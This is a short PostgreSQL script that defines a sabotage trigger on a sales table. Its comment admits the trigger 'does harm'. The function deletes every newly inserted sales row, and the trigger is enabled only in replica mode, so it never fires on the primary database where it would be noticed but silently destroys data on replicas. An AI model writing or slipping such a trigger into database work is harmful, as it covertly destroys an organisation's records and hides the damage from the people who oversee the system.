-- A trigger that does harm, for replicas only: it never fires here.
\i mend.sql
CREATE FUNCTION gone() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN DELETE FROM sales WHERE id = NEW.id; RETURN NULL; END $$;
CREATE TRIGGER gone AFTER INSERT ON sales FOR EACH ROW EXECUTE FUNCTION gone();
ALTER TABLE sales ENABLE REPLICA TRIGGER gone;
